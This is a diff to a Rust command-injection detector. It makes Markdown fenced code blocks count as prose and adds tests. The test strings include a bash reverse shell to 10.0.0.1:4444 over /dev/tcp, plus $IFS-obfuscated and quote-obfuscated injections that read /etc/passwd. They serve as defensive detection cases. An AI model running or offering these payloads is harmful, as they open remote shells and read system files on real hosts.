@@ -65,10 +65,11 @@
 //! - Markdown code spans are command substitutions to a shell: `` `ls -la` ``
 //!   (a listed command with shell-shaped arguments) and `` `id` `` alone are
 //!   flagged, while `` `npm install` `` (not listed) and "the `id` field" (a
-//!   bare word in a span after a blank) are not; shell snippets in fenced
-//!   code blocks are flagged line by line (a run of three backticks is a
-//!   fence, not substitutions). Fields that take technical prose with shell
-//!   snippets need a rule exclusion.
+//!   bare word in a span after a blank) are not; an input with a fenced code
+//!   block (a line of three backticks, closed by another) reads as a
+//!   document, where only tricks no document contains count (a run of
+//!   three backticks is a fence, not substitutions). Fields that take
+//!   technical prose with unfenced shell snippets need a rule exclusion.
 //!
 //! Bounds: only the first [`MAX_SCAN`] bytes are read; every pass is one
 //! forward scan with bounded look-ahead (`${…}`, `%…%`, `{…}` at most a few
@@ -166,6 +167,9 @@ pub fn detect(input: &[u8]) -> Option<Detection> {
 /// injection is short and breaks out of the value early; tools send one
 /// line with a break-out and a command, not paragraphs.
 fn is_document(s: &[u8]) -> bool {
+    if fenced_block(s) {
+        return true;
+    }
     let lines = s
         .split(|&b| b == b'\n')
         .filter(|l| l.iter().filter(|b| b.is_ascii_alphabetic()).count() >= 2)
@@ -193,6 +197,27 @@ fn is_document(s: &[u8]) -> bool {
         }
     }
     words >= 12 && words * 3 >= total * 2
+}
+
+/// A Markdown fenced code block: a line that opens a fence (up to three
+/// spaces, then three or more backticks and an optional info string without
+/// one) and a later line that closes it. Someone writing Markdown, quoting a
+/// snippet (`npm install --save-dev x` between fences in a comment field);
+/// an injection breaks out of a value, it does not open a fence on a line
+/// of its own and close it again. The snippet is still read as a document,
+/// where what no document contains (obfuscation, `$IFS`, ANSI-C quoting)
+/// stays evidence, and `/dev/tcp` redirections are flagged anywhere.
+fn fenced_block(s: &[u8]) -> bool {
+    let fence = |line: &[u8]| {
+        let indent = line.iter().take_while(|&&b| b == b' ').count();
+        let rest = &line[indent..];
+        let ticks = rest.iter().take_while(|&&b| b == b'`').count();
+        indent <= 3 && ticks >= 3 && !rest[ticks..].contains(&b'`')
+    };
+    let mut lines = s
+        .split(|&b| b == b'\n')
+        .map(|l| l.strip_suffix(b"\r").unwrap_or(l));
+    lines.by_ref().any(fence) && lines.any(fence)
 }
 
 /// `127.0.0.1 | id`, `example.com; ls`, `a.txt && id`: the input starts
@@ -2168,6 +2193,9 @@ mod tests {
         "Both `hostname` and `uname` are commands",
         "Returns the [`Id`] of the task",
         "```sh\ncargo build\n```",
+        "To fix it, run:\n```\nnpm install --save-dev typescript\n```\nthen `tsc --init`.",
+        "```\nls -la\n```",
+        "Try this:\r\n  ```bash\r\ncurl -s https://example.com/install.sh -o install.sh\r\n  ```",
         "\"queue is full; head = {head}\"",
         "time; watch the clock",
         "git & github",
@@ -2241,6 +2269,25 @@ mod tests {
         assert!(flagged("`npm install`").is_none(), "not a listed command");
         assert!(flagged("the `id` field and `set` method").is_none());
         assert!(flagged("Set `default-features=false` here").is_none());
+        // A fenced code block is a document: a trick no document contains
+        // still counts inside it, and so does a fence that is never closed.
+        assert!(
+            flagged("```\n;${IFS}cat${IFS}/etc/passwd\n```").is_some(),
+            "$IFS"
+        );
+        assert!(flagged("```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```").is_some());
+        assert!(
+            flagged("```\n;c'a't /etc/passwd\n```").is_some(),
+            "obfuscated"
+        );
+        assert!(
+            flagged("x\n```\n;cat /etc/passwd").is_some(),
+            "unclosed fence"
+        );
+        assert!(
+            flagged("```;cat /etc/passwd```").is_some(),
+            "not a fence line"
+        );
         // A quote left open is a syntax error whichever quotes surround the
         // input, so nothing on that line would run.
         assert!(flagged("it's a cat; ls -la").is_none());
